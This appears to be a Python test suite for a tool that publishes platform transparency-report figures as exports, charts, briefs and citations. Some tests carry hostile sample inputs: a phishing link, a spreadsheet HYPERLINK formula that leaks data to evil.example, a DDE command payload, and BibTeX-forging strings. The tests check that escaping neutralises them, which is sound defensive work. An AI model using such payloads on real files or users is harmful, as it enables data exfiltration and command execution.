"""Publishing: exports equal the store in every format, data packages validate, charts carry their sources and
licences, briefs render offline in headless Chromium, citations name publisher, URL and sha256."""
from __future__ import annotations

import csv
import json
import os
import shutil
import tempfile
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from reports.ingest.register import sha256_file
from reports.model.documents import Document
from reports.model.licences import licence_statement
from reports.model.periods import half, parse_period, year
from reports.model.schema import CONTRACT_COLUMNS, FIGURE_KEY, NO_LICENCE, frame, observation
from reports.model.selection import Selection
from reports.publish.export import EXPORT_COLUMNS, export, export_frame
from reports.query import events
from reports.store.database import Store, writing
from tatlas.cli import main
from tests.conftest import IN_CI, shared

ALPHA_OLD, ALPHA_NEW, BETA, NCMEC = ("a" * 64, "b" * 64, "c" * 64, "d" * 64)
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
needs_chromium = pytest.mark.skipif(not IN_CI and CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)")


# -- a small synthetic store: two editions of one publisher (no licence), one CC BY 4.0 source, NCMEC ------
def _doc(sha: str, source: str, publisher: str, licence: str, url: str, title: str) -> Document:
    return Document(path=Path(f"/nowhere/{source}-{sha[:4]}.csv"), source=source, sha256=sha, size=100,
                    media_type="text/csv", source_url=url, publisher=publisher, license=licence, title=title)


def _row(source: str, sha: str, url: str, period: str, metric: str, value, **extra) -> dict:
    row = observation(platform="twitch", period=parse_period(period), metric=metric, metric_label=metric.title(),
                      value=value, locator=f"line {abs(hash((period, metric, sha))) % 1000}",
                      source_url=url, document_sha256=sha, **extra)
    row["source"] = source
    return row


def synthetic_store(path: Path, *, reverse: bool = False) -> Path:
    alpha_url, beta_url, ncmec_url = ("https://alpha.example/report", "https://beta.example/db",
                                      "https://ncmec.example/esp")
    docs = [
        (_doc(ALPHA_OLD, "alpha-report", "Alpha Corp", "No open licence stated; figures republished as facts",
              alpha_url, "Alpha Transparency Report"), {"edition": "2023-H2", "edition_date": "2023-12-31"}),
        (_doc(ALPHA_NEW, "alpha-report", "Alpha Corp", "No open licence stated; figures republished as facts",
              alpha_url, "Alpha Transparency Report"), {"edition": "2024-H1", "edition_date": "2024-06-30"}),
        (_doc(BETA, "beta-db", "European Commission", "CC BY 4.0", beta_url, "Beta Database"), {}),
        (_doc(NCMEC, "ncmec-esp", "NCMEC", "", ncmec_url, "CyberTipline Reports by ESP"),
         {"edition": "2023", "edition_date": "2024-03-01"}),
    ]
    rows = [
        _row("alpha-report", ALPHA_OLD, alpha_url, "2023-H1", "content_actioned", 100.0, value_text="100"),
        _row("alpha-report", ALPHA_OLD, alpha_url, "2023-H2", "content_actioned", 200.0, value_text="200"),
        # The next edition revises 2023-H2 and adds 2024-H1; a published gap (N/A) stays empty, not zero.
        _row("alpha-report", ALPHA_NEW, alpha_url, "2023-H1", "content_actioned", 100.0, value_text="100"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2023-H2", "content_actioned", 210.0, value_text="210"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2024-H1", "content_actioned", 1234567.0, value_text="1,234,567"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2024-H1", "content_actioned", 17.0, value_text="17",
             breakdown={"method": "automated"}),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2024-H1", "proactive_rate", 0.989, value_text="98.90%"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2023-H2", "proactive_rate", None, value_text="N/A"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2023-H1", "ncmec_reports", 1000.0, value_text="1,000"),
        _row("alpha-report", ALPHA_NEW, alpha_url, "2023-H2", "ncmec_reports", 1200.0, value_text="1,200"),
        _row("ncmec-esp", NCMEC, ncmec_url, "2023", "ncmec_reports", 2500.0, value_text="2,500"),
        _row("beta-db", BETA, beta_url, "2024-H1", "content_actioned", 500.0, value_text="500", region="EU"),
        _row("dsa-report", BETA, beta_url, "2024-H1", "active_recipients", 2_000_000.0, value_text="2,000,000",
             region="EU"),
    ]
    with writing(path) as store:
        for doc, meta in docs:
            store.add_document(doc, relative_path=doc.path.name, fingerprint="test", meta=meta)
        store.add_observations(frame(rows[::-1] if reverse else rows))
        store.refresh_latest()
    return path


@pytest.fixture
def small(tmp_path) -> Store:
    store = Store(synthetic_store(tmp_path / "small.duckdb"), read_only=True)
    yield store
    store.close()


def read_back(path: Path, fmt: str) -> pd.DataFrame:
    """An export read back as a frame of strings and float values, whatever its format."""
    if fmt == "csv":
        df = pd.read_csv(path, dtype=str, keep_default_na=False)
    elif fmt == "parquet":
        df = pd.read_parquet(path)
    elif fmt == "json":
        df = pd.DataFrame(json.loads(path.read_text(encoding="utf-8")))
    else:
        df = pd.read_excel(path, sheet_name="data", dtype=str, keep_default_na=False)
    df["value"] = pd.to_numeric(df["value"].replace("", None), errors="raise").astype(float)
    for column in df.columns:
        if column != "value":
            df[column] = df[column].fillna("").astype(str)
    return df


def store_figures(store: Store, where: str = "", params: list | None = None) -> pd.DataFrame:
    df = store.latest(where, params)
    for column in ("period_start", "period_end"):
        df[column] = pd.to_datetime(df[column]).dt.strftime("%Y-%m-%d")
    return df


def assert_equal_to_store(exported: pd.DataFrame, expected: pd.DataFrame) -> None:
    """Every figure of the store is in the export with the same value, text and document, and nothing else."""
    assert len(exported) == len(expected)
    merged = expected.merge(exported, on=FIGURE_KEY, how="outer", suffixes=("_store", "_export"), indicator=True)
    assert (merged["_merge"] == "both").all(), merged[merged["_merge"] != "both"][FIGURE_KEY]
    for column in ("value_text", "document_sha256", "source_url", "unit", "period", "locator", "qualifier"):
        assert (merged[f"{column}_store"].fillna("") == merged[f"{column}_export"]).all(), column
    same = (merged["value_store"] == merged["value_export"]) | (merged["value_store"].isna()
                                                                 & merged["value_export"].isna())
    assert same.all(), merged.loc[~same, FIGURE_KEY + ["value_store", "value_export"]]


# -- licences -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("stated, says", [
    ("No open licence stated; figures republished as facts with citation", NO_LICENCE),
    ("No open licence stated (the PDFs say 'Copyright © NCMEC. All rights reserved.')", NO_LICENCE),
    ("", NO_LICENCE), (None, NO_LICENCE),
    ("CC BY 4.0", "CC-BY-4.0"), ("Apache-2.0", "Apache-2.0"),
    # Two licences for two layers of one source: the card's own words, never one picked for it.
    ("Underlying data: CC BY 4.0 (European Commission). Daily statistics file: Apache-2.0",
     "Underlying data: CC BY 4.0 (European Commission). Daily statistics file: Apache-2.0"),
])
def test_an_export_states_only_the_licence_a_source_gave(stated, says):
    assert licence_statement(stated) == says


# -- exports --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "parquet", "json", "xlsx"])
def test_every_format_reads_back_equal_to_the_store_with_each_source_licence(small, tmp_path, fmt):
    result = export(small, tmp_path / f"out.{fmt}", fmt)
    back = read_back(result.data, fmt)
    assert list(back.columns[:len(CONTRACT_COLUMNS)]) == CONTRACT_COLUMNS
    assert list(back.columns) == EXPORT_COLUMNS
    assert_equal_to_store(back, store_figures(small))
    # The newest edition wins, a published N/A stays empty, and the licence travels with each figure.
    row = back[(back.metric == "content_actioned") & (back.period == "2023-H2")].iloc[0]
    assert (row.value, row.document_sha256, row.license) == (210.0, ALPHA_NEW, NO_LICENCE)
    assert back[(back.metric == "proactive_rate") & (back.period == "2023-H2")]["value"].isna().all()
    assert set(back[back.source == "beta-db"]["license"]) == {"CC-BY-4.0"}
    assert result.package == tmp_path / "datapackage.json" and result.rows == len(back)


def test_xlsx_has_a_sources_sheet_with_url_sha256_publisher_and_licence(small, tmp_path):
    export(small, tmp_path / "out.xlsx", "xlsx")
    sources = pd.read_excel(tmp_path / "out.xlsx", sheet_name="sources", dtype=str, keep_default_na=False)
    by_sha = sources.set_index("sha256")
    assert set(by_sha.index) == {ALPHA_NEW, BETA, NCMEC}  # the old edition gives no latest figure
    assert by_sha.loc[BETA, ["publisher", "source_url", "license"]].tolist() == \
        ["European Commission", "https://beta.example/db", "CC-BY-4.0"]
    assert by_sha.loc[ALPHA_NEW, "license"] == NO_LICENCE and by_sha.loc[ALPHA_NEW, "edition"] == "2024-H1"
    assert by_sha.loc[NCMEC, "license"] == NO_LICENCE


@pytest.mark.parametrize("fmt", ["csv", "parquet", "json", "xlsx"])
def test_the_data_package_validates_and_checksums_the_file(small, tmp_path, fmt):
    from frictionless import validate

    result = export(small, tmp_path / f"out.{fmt}", fmt)
    report = validate(str(result.package))
    assert report.valid, report.flatten(["type", "note"])
    package = json.loads(result.package.read_text(encoding="utf-8"))
    data = package["resources"][0]
    assert data["hash"] == f"sha256:{sha256_file(result.data)}" and data["path"] == f"out.{fmt}"
    assert data["schema"]["primaryKey"] == FIGURE_KEY
    assert all(f["type"] and f["description"] for f in data["schema"]["fields"])
    assert {f["name"]: f["type"] for f in data["schema"]["fields"]}["value"] == "number"
    sources = {s["sha256"]: s for s in package["sources"]}
    assert sources[BETA]["licenses"][0]["name"] == "CC-BY-4.0" and sources[BETA]["path"] == "https://beta.example/db"
    assert sources[ALPHA_NEW]["license"] == NO_LICENCE and "licenses" not in sources[ALPHA_NEW]
    # Sources with different licences: the package as a whole claims none.
    assert "licenses" not in package and "Alpha Corp, NCMEC stated no licence" in package["description"]


def test_a_changed_file_fails_validation(small, tmp_path):
    from frictionless import validate

    result = export(small, tmp_path / "out.csv", "csv")
    result.data.write_text(result.data.read_text(encoding="utf-8").replace("1234567.0", "1234568.0"), encoding="utf-8")
    assert not validate(str(result.package)).valid


def test_a_package_claims_a_licence_only_when_every_source_states_it(small, tmp_path):
    only_beta = export(small, tmp_path / "beta" / "out.csv", "csv", Selection(sources=["beta-db"]))
    assert json.loads(only_beta.package.read_text())["licenses"][0]["name"] == "CC-BY-4.0"
    only_alpha = export(small, tmp_path / "alpha" / "out.csv", "csv", Selection(sources=["alpha-report"]))
    assert "licenses" not in json.loads(only_alpha.package.read_text())


def test_per_million_recipients_are_added_as_derived_columns(small):
    df = export_frame(small, Selection(sources=["beta-db"]), per_million=True)
    assert list(df.columns[:len(EXPORT_COLUMNS)]) == EXPORT_COLUMNS
    row = df.iloc[0]
    assert (row.value, row.recipients, row.value_per_million_recipients) == (500.0, 2_000_000.0, 250.0)


def test_cli_export_writes_data_and_package(tmp_path):
    db = synthetic_store(tmp_path / "small.duckdb")
    out = tmp_path / "export" / "twitch.xlsx"
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--platform", "twitch", "--format", "xlsx",
                                       "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert (out.parent / "datapackage.json").exists()
    assert len(pd.read_excel(out, sheet_name="data")) == 11


# -- real data --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def real_meta(tmp_path_factory) -> Store:
    """A store built from Meta's real CSER editions (the one source every checkout has)."""
    from collectors import REGISTRY
    from reports.ingest.build import build

    db = tmp_path_factory.mktemp("meta") / "atlas.duckdb"
    build(shared("meta-cser"), db, {"meta-cser": REGISTRY["meta-cser"]})
    store = Store(db, read_only=True)
    yield store
    store.close()


@pytest.mark.parametrize("fmt", ["csv", "parquet", "json", "xlsx"])
def test_real_exports_equal_the_store(real_meta, tmp_path, fmt):
    from frictionless import validate

    selection = Selection(platforms=["instagram"], metrics=["content_actioned"])
    result = export(real_meta, tmp_path / f"instagram.{fmt}", fmt, selection)
    back = read_back(result.data, fmt)
    assert_equal_to_store(back, store_figures(real_meta, "platform = ? AND metric = ?", ["instagram",
                                                                                          "content_actioned"]))
    hate = back[(back.policy_label == "Hate Speech") & (back.period == "2024-Q2")].iloc[0]
    assert (hate.value, hate.value_text, hate.license) == (7_700_000.0, "7,700,000", NO_LICENCE)
    # the newest edition restates it (printed 'Hateful Conduct', one series with 'Hate Speech')
    assert hate.document_sha256 == sha256_file(shared("meta-cser", "meta-2026-q2.csv"))
    assert back[(back.policy_label == "Hate Speech") & (back.period == "2019-Q3")]["value_text"].tolist() == ["N/A"]
    assert validate(str(result.package)).valid


def test_cite_a_real_figure_names_publisher_url_and_sha256(real_meta):
    from reports.publish.cite import cite

    # The newest edition that printed the figure is cited: 2026Q2, which restates the history from 2017Q4.
    sha = sha256_file(shared("meta-cser", "meta-2026-q2.csv"))
    citation = cite(real_meta, Selection(platforms=["instagram"], metrics=["content_actioned"],
                                         policy_areas=["STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH"]), period="2024-Q2")
    # Two of Meta's policies map to this area; one figure needs the exact label, a selection lists its documents.
    assert citation.text.startswith("Selection:") and "2 figures from 1 document(s)" in citation.text
    runner = CliRunner()
    result = runner.invoke(main, ["cite", "--db", str(real_meta.path), "--platform", "facebook", "--metric",
                                  "content_actioned", "--policy-area", "STATEMENT_CATEGORY_PROTECTION_OF_MINORS",
                                  "--period", "2020-Q1", "--policy-label", "Child Nudity & Sexual Exploitation"])
    assert result.exit_code == 0, result.output
    assert "Figure: facebook, Child Nudity & Sexual Exploitation, Content Actioned, 2020-Q1: 8,500,000" in result.output
    assert "Meta Platforms, Inc. (2026). Community Standards Enforcement Report, edition 2026-Q2" in result.output
    assert "https://transparency.fb.com/sr/community-standards/" in result.output
    assert f"SHA-256 {sha}" in result.output and "No licence stated" in result.output
    assert "@misc{meta-cser-2026-Q2," in result.output and f"SHA-256 {sha}" in result.output.split("@misc")[1]
    assert "Transparency Atlas (version" in result.output and "document-set fingerprint SHA-256" in result.output


def test_cite_a_selection_lists_every_document_and_its_licence(small):
    from reports.publish.cite import cite
    from reports.query.buildinfo import atlas_build

    citation = cite(small, Selection(metrics=["content_actioned"], regions=["GLOBAL", "EU"]))
    assert f"Alpha Corp (2024). Alpha Transparency Report, edition 2024-H1 [Data set; file alpha-report-bbbb.csv]. " \
           f"https://alpha.example/report. SHA-256 {ALPHA_NEW}. No licence stated." in citation.text
    assert f"European Commission (n.d.). Beta Database [Data set; file beta-db-cccc.csv]. https://beta.example/db. " \
           f"SHA-256 {BETA}. Licence: CC-BY-4.0." in citation.text
    build = atlas_build(small)
    assert build["documents"] == 4 and build["fingerprint"] in citation.text and build["fingerprint"] in citation.bibtex
    assert citation.bibtex.count("@misc{") == 3


# -- charts -----------------------------------------------------------------------------------------------
def svg_text(path: Path) -> str:
    """All text an SVG shows, joined by spaces."""
    return " ".join(" ".join(el.itertext()) for el in ET.parse(path).getroot().iter("{http://www.w3.org/2000/svg}text"))


@needs_chromium
def test_chart_writes_png_and_svg_with_source_line_licences_and_annotations(small, tmp_path):
    from reports.publish.charts import chart

    selection = Selection(platforms=["twitch"], metrics=["content_actioned"])
    result = chart(small, selection, tmp_path / "twitch.png", title="Twitch: content actioned")
    assert result.png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and result.png.stat().st_size > 20_000
    text = svg_text(result.svg)
    assert "Twitch: content actioned" in text
    assert "Source: Alpha Corp, Alpha Transparency Report (no licence stated)" in text
    assert "European Commission, Beta Database (licence: CC-BY-4.0)" in text
    assert "2023-H1" in text and "2024-H1" in text and "Content actioned (count)" in text
    assert result.series == 2  # the GLOBAL and EU totals; the automated breakdown is not a line of its own
    notes = events.annotations_for(["twitch"], ["alpha-report", "beta-db"], "2023-01-01", "2024-06-30")
    assert notes, "reports/annotations.csv should hold an event touching Twitch in 2023-2024"
    for n, note in enumerate(notes, start=1):
        assert f"[{n}] {note['start']}: {note['text'][:40]}" in text


def test_a_chart_refuses_to_mix_units(small, tmp_path):
    from reports.model.errors import AtlasError
    from reports.publish.charts import chart

    with pytest.raises(AtlasError, match="mixes units"):
        chart(small, Selection(platforms=["twitch"], sources=["alpha-report"]), tmp_path / "x.png")


def test_a_static_chart_draws_each_value_across_its_period_and_never_bridges_a_missing_one(tmp_path):
    from reports.publish.charts import build_figure, chart_rows
    from tests.test_analysis import make_store, obs

    store = make_store(tmp_path, {"src": [obs("twitch", year(2019), 10), obs("twitch", year(2021), 30),
                                          obs("twitch", half(2022, 1), 5), obs("twitch", half(2022, 2), 6)]})
    fig = build_figure(store, chart_rows(store, Selection(platforms=["twitch"])), annotate=False)
    years = next(t for t in fig.data if t.name.endswith("per year"))
    # 2019 across 2019, then a break (None): 2020 was not published, so no line runs from 2019 to 2021.
    assert list(years.x) == ["2019-01-01", "2019-07-02 12:00", "2020-01-01", None,
                             "2021-01-01", "2021-07-02 12:00", "2022-01-01"]
    assert list(years.y) == [10, 10, 10, None, 30, 30, 30]
    halves = next(t for t in fig.data if t.name.endswith("per half-year"))  # halves never share the years' line
    assert list(halves.x)[0] == "2022-01-01" and list(halves.x)[-1] == "2023-01-01" and None not in halves.x
    store.close()


def test_a_single_series_chart_names_platform_source_and_the_publishers_own_label(tmp_path):
    from reports.publish.charts import build_figure, chart_rows
    from tests.test_analysis import make_store, obs

    label = "Hateful Conduct, Sexual Harassment, and Harassment"
    store = make_store(tmp_path, {"curated-twitch": [
        obs("twitch", half(2022, 1), 182_655, area="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH", label=label),
        obs("twitch", half(2022, 2), 199_769, area="STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH", label=label)]})
    fig = build_figure(store, chart_rows(store, Selection(platforms=["twitch"])), annotate=False)
    words = f"{fig.layout.title.text} {fig.layout.title.subtitle.text} {' '.join(t.name for t in fig.data)}"
    assert "Illegal or harmful speech" in fig.layout.title.text  # our category ...
    assert label in fig.layout.title.subtitle.text  # ... next to the publisher's own words
    assert "Twitch" in words and "curated-twitch" in words
    store.close()


EVIL = '<a href="https://evil.example/phish">OFFICIAL DATA</a>'


def test_publishers_text_never_becomes_markup_in_a_static_chart(tmp_path):
    """A provider, a label, a publisher and a title holding HTML are shown as text: no link in the SVG."""
    from reports.publish.charts import build_figure, chart_rows, write_chart

    url = "https://ncmec.example/esp"
    rows = [_row("ncmec-esp", NCMEC, url, period, "ncmec_reports", value, breakdown={"esp": EVIL}, policy_label=EVIL)
            for period, value in (("2022", 10.0), ("2023", 20.0))]
    rows += [_row("ncmec-esp", NCMEC, url, "2023", "ncmec_reports", 5.0, policy_label="<b>bold</b> & co")]
    with writing(tmp_path / "evil.duckdb") as store:
        store.add_document(_doc(NCMEC, "ncmec-esp", EVIL, "", url, f"Reports {EVIL}"), relative_path="n.csv",
                           fingerprint="test", meta={})
        store.add_observations(frame(rows))
        store.refresh_latest()
    with Store(tmp_path / "evil.duckdb", read_only=True) as store:
        fig = build_figure(store, chart_rows(store, Selection(platforms=["twitch"])), title=f"Chart {EVIL}")
        texts = [fig.layout.title.text, fig.layout.title.subtitle.text, fig.layout.yaxis.title.text,
                 *(a.text for a in fig.layout.annotations), *(t.name for t in fig.data),
                 *(h for t in fig.data for h in (t.hovertext or []))]
        assert not [t for t in texts if "<a" in t or "<b>bold" in t], texts
        assert any("&lt;a href=" in t for t in texts) and any("&amp; co" in t for t in texts)
        if CHROMIUM is None:
            return
        _png, svg = write_chart(fig, tmp_path / "evil.png")
    root = ET.parse(svg).getroot()
    assert not list(root.iter("{http://www.w3.org/2000/svg}a"))
    assert "evil.example" not in " ".join(v for el in root.iter() for k, v in el.attrib.items() if k.endswith("href"))
    assert EVIL in svg_text(svg)  # shown literally, as the publisher wrote it


# -- briefs -----------------------------------------------------------------------------------------------
def test_a_brief_holds_series_cross_checks_revisions_and_numbered_sources(small, tmp_path):
    from reports.publish.brief import write_brief

    out = tmp_path / "twitch.html"
    brief = write_brief(small, "twitch", out)
    html = out.read_text(encoding="utf-8")
    assert {s.metric for s in brief.sections} >= {"content_actioned", "ncmec_reports"}
    # NCMEC cross-check: 1,000 + 1,200 (derived year) against NCMEC's 2,500 is off by more than 10%.
    row = brief.ncmec[brief.ncmec.year == 2023].iloc[0]
    assert (row.platform_value, row.ncmec_value, bool(row.flag)) == (2200.0, 2500.0, True)
    assert "differs by more than 10%" in html
    assert brief.revisions_total == 1 and ">200<" in html and ">210<" in html
    for sha in (ALPHA_OLD, ALPHA_NEW, BETA, NCMEC):
        assert sha in html
    assert "Licence: no licence stated" in html and "Licence: CC-BY-4.0" in html
    assert "<script src=" not in html and "cdn.plot.ly/plotly" not in html


def chromium_driver():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    for flag in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync",
                 f"--user-data-dir={tempfile.mkdtemp(prefix='tatlas-chromium-')}",
                 # Any request for the network goes to a closed local port: the brief must need none.
                 "--proxy-server=http://127.0.0.1:9", "--proxy-bypass-list=<-loopback>"):
        options.add_argument(flag)
    options.binary_location = CHROMIUM
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver_path = shutil.which("chromedriver")
    driver = webdriver.Chrome(service=Service(driver_path) if driver_path else Service(), options=options)
    driver.execute_cdp_cmd("Network.enable", {})
    driver.execute_cdp_cmd("Network.emulateNetworkConditions", {"offline": True, "latency": 0,
                                                                 "downloadThroughput": 0, "uploadThroughput": 0})
    return driver


@needs_chromium
def test_a_real_brief_renders_offline_in_headless_chromium(real_meta, tmp_path):
    from reports.publish.brief import write_brief

    out = tmp_path / "facebook.html"
    brief = write_brief(real_meta, "facebook", out, ["STATEMENT_CATEGORY_PROTECTION_OF_MINORS"])
    html = out.read_text(encoding="utf-8")
    assert "Each edition restates history" in html  # a caveat from Meta's source card
    assert "8,600,000" in html and "8,500,000" in html  # Child Nudity 2020-Q1, revised between editions
    assert sha256_file(shared("meta-cser", "meta-2021-q2.csv")) in html
    driver = chromium_driver()
    try:
        driver.get(out.as_uri())
        drawn = 0
        for _ in range(100):
            drawn = driver.execute_script("return document.querySelectorAll('.js-plotly-plot svg.main-svg').length")
            if drawn >= 2 * len(brief.sections):
                break
            time.sleep(0.1)
        plots = driver.execute_script("return document.querySelectorAll('.js-plotly-plot').length")
        lines = driver.execute_script("return document.querySelectorAll('.js-plotly-plot .scatterlayer .trace').length")
        errors = [e for e in driver.get_log("browser") if e["level"] == "SEVERE"]
    finally:
        driver.quit()
    assert plots == len(brief.sections) == 4
    assert drawn >= 2 * plots and lines >= plots
    assert not errors, errors


def test_citation_cff_names_the_project_at_its_installed_version():
    import importlib.metadata

    import yaml

    from tests.conftest import REPO

    cff = yaml.safe_load((REPO / "CITATION.cff").read_text(encoding="utf-8"))
    assert cff["cff-version"] == "1.2.0" and cff["title"].startswith("Transparency Atlas")
    assert all(author.get("name") or author.get("family-names") for author in cff["authors"])
    assert cff["version"] == importlib.metadata.version("transparency-atlas")
    assert "tatlas cite" in cff["message"]


def test_a_brief_shows_the_dsa_report_against_the_transparency_database(tmp_path):
    from reports.publish.brief import write_brief

    report_url, tdb_url = "https://report.example/dsa", "https://tdb.example/stats"
    rows = [_row("dsa-report", ALPHA_NEW, report_url, "2024-H1", "own_initiative_measures", 300.0, region="EU",
                 breakdown={"basis": "illegal_content"}),
            _row("dsa-report", ALPHA_NEW, report_url, "2024-H1", "own_initiative_measures", 60.0, region="EU",
                 breakdown={"basis": "terms_and_conditions"}),
            _row("dsa-report", ALPHA_NEW, report_url, "2024-H1", "notice_actions", 40.0, region="EU",
                 breakdown={"basis": "law"}),
            _row("dsa-report", ALPHA_NEW, report_url, "2024-H1", "notice_actions", 0.0, region="EU",
                 breakdown={"basis": "terms_and_conditions"})]
    rows += [_row("dsa-tdb", BETA, tdb_url, day.strftime("%Y-%m-%d"), "sor_count", 2.0, region="EU")
             for day in pd.date_range("2024-01-01", "2024-06-30")]
    with writing(tmp_path / "tdb.duckdb") as store:
        store.add_document(_doc(ALPHA_NEW, "dsa-report", "Twitch", "", report_url, "DSA transparency report"),
                           relative_path="r.csv", fingerprint="test", meta={})
        store.add_document(_doc(BETA, "dsa-tdb", "European Commission", "CC BY 4.0", tdb_url, "DSA Transparency Database"),
                           relative_path="t.csv", fingerprint="test", meta={})
        store.add_observations(frame(rows))
        store.refresh_latest()
    with Store(tmp_path / "tdb.duckdb", read_only=True) as store:
        brief = write_brief(store, "twitch", tmp_path / "twitch.html")
    html = (tmp_path / "twitch.html").read_text(encoding="utf-8")
    rows = brief.reconcile.set_index(["measure", "policy_area"])
    # 300 + 60 + 40 + 0 = 400 in the report against 182 days x 2 = 364 statements of reasons: within 10%.
    row = rows.loc[("all_sources", "ALL")]
    assert (row.report_value, row.database_value, row.database_days, row.period_days, row.flag) == \
        (400.0, 364.0, 182, 182, False)
    # The database holds statements of the service but no monthly cut by source type: 0, said in words.
    own = rows.loc[("own_initiative", "ALL")]
    assert (own.report_value, own.database_value) == (360.0, 0.0) and "sent no voluntary statement" in own.note
    assert "DSA transparency report against the DSA Transparency Database" in html and "182 / 182" in html
    assert "within 10%" in html and "Licence: CC-BY-4.0" in html and "sent no voluntary statement" in html
    assert "Derived: report: sum of part 5" in html


def test_a_second_export_in_the_same_folder_keeps_the_first_ones_descriptor(tmp_path):
    from click.testing import CliRunner

    from tatlas.cli import main

    db = tmp_path / "atlas.duckdb"
    runner = CliRunner()
    runner.invoke(main, ["build", "--sources", str(shared("meta-cser")), "--db", str(db)])
    first = runner.invoke(main, ["export", "--db", str(db), "--platform", "facebook", "--out", str(tmp_path / "fb.csv")])
    second = runner.invoke(main, ["export", "--db", str(db), "--platform", "instagram", "--out", str(tmp_path / "ig.csv")])
    assert first.exit_code == 0 and second.exit_code == 0, first.output + second.output
    paths = {name: [r["path"] for r in json.loads((tmp_path / name).read_text())["resources"]]
             for name in ("datapackage.json", "ig.datapackage.json")}
    assert paths["datapackage.json"][0] == "fb.csv" and paths["ig.datapackage.json"][0] == "ig.csv"
    assert "ig.datapackage.json" in second.output


HOSTILE = '=HYPERLINK("http://evil.example/leak?d="&A2,"Click for the full data")'


def test_publisher_text_never_becomes_a_live_formula_in_csv_or_xlsx(tmp_path):
    """CSV injection (OWASP): text starting with = + - @ is neutralised in CSV and stored as text in XLSX."""
    import openpyxl

    from reports.publish.spreadsheet import csv_safe

    rows = [_row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "content_actioned", 5.0,
                 value_text="5", policy_label=HOSTILE),
            _row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "content_actioned", -2.0,
                 value_text="-2", policy_label="@SUM(A1:A9)", breakdown={"method": "+cmd|' /C calc'!A0"})]
    with writing(tmp_path / "h.duckdb") as store:
        store.add_document(_doc(ALPHA_NEW, "alpha-report", "Alpha", "", "https://alpha.example/report", "Alpha"),
                           relative_path="a.csv", fingerprint="t", meta={})
        store.add_observations(frame(rows))
        store.refresh_latest()
    with Store(tmp_path / "h.duckdb", read_only=True) as store:
        export(store, tmp_path / "out.csv", "csv")
        export(store, tmp_path / "out.xlsx", "xlsx")
    with (tmp_path / "out.csv").open(encoding="utf-8") as handle:
        back = list(csv.DictReader(handle))
    assert {r["policy_label"] for r in back} == {"'" + HOSTILE, "'@SUM(A1:A9)"}
    assert {r["value_text"] for r in back} == {"5", "-2"}  # plain numbers are left as printed
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [c for row in book["data"].iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=@+"]
    assert {c.value for c in cells} >= {HOSTILE, "@SUM(A1:A9)"} and {c.data_type for c in cells} == {"s"}
    assert csv_safe(pd.DataFrame({"t": ["-", "--", "=1+1", "12", "-3.5%"]}))["t"].tolist() == \
        ["'-", "'--", "'=1+1", "12", "-3.5%"]


def test_exports_are_byte_identical_when_nothing_changed(tmp_path):
    """The same figures give the same bytes, whatever order the store received them in (a total sort order)."""
    outputs = []
    ties = [_row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "appeals", float(n),
                 policy_label=label) for n, label in enumerate(("Spam", "Fraud", "Hate", "Scams", "Bullying"))]
    for reverse in (False, True):
        path = synthetic_store(tmp_path / f"s{reverse}.duckdb", reverse=reverse)
        with writing(path) as store:  # figures that differ only in their policy label, in either order
            store.add_observations(frame(ties[::-1] if reverse else ties))
            store.refresh_latest()
        with Store(path, read_only=True) as store:
            out = tmp_path / f"export-{reverse}.csv"
            export(store, out, "csv")
        outputs.append(out.read_bytes())
    assert outputs[0] == outputs[1]


def test_citations_escape_urls_and_titles_so_no_entry_can_be_forged():
    from types import SimpleNamespace

    from reports.publish.cite import document_bibtex, document_reference

    doc = SimpleNamespace(publisher="Evil} Corp", title="Report}\n@misc{forged, title={owned}", edition="2024-H1",
                          name="r.csv", sha256="a" * 64, license="CC BY 4.0", source="alpha-report",
                          source_url="https://evil.example/r}}\n@misc{forged2,?q=%20", published=None,
                          edition_date=None)
    entry = document_bibtex(doc)
    assert entry.count("@misc{") == 1 and "\n@" not in entry.split("\n", 1)[1]
    assert "\\url{https://evil.example/r%7D%7D%0A@misc%7Bforged2,?q=%20}" in entry
    assert entry.count("{") - entry.count("\\{") == entry.count("}") - entry.count("\\}")  # braces balance
    text = document_reference(doc)
    assert "\n" not in text and "Report} @misc{forged" in text


def test_an_export_never_overwrites_the_store_an_unrelated_file_or_an_unrelated_data_package(small, tmp_path):
    from reports.model.errors import AtlasError

    with pytest.raises(AtlasError, match="--out is the store itself"):
        export(small, Path(small.path), "csv")
    notes = tmp_path / "notes.csv"
    notes.write_text("my own notes\n")
    with pytest.raises(AtlasError, match="not an earlier export of the atlas: not overwritten"):
        export(small, notes, "csv")
    assert notes.read_text() == "my own notes\n"
    out = tmp_path / "atlas.csv"
    export(small, out, "csv")
    export(small, out, "csv")  # an untouched earlier export of ours is replaced
    foreign = tmp_path / "other" / "datapackage.json"
    foreign.parent.mkdir()
    foreign.write_text('{"name": "somebody-elses", "resources": []}\n')
    result = export(small, foreign.parent / "atlas.csv", "csv")
    assert result.package.name == "atlas.datapackage.json"
    assert foreign.read_text() == '{"name": "somebody-elses", "resources": []}\n'


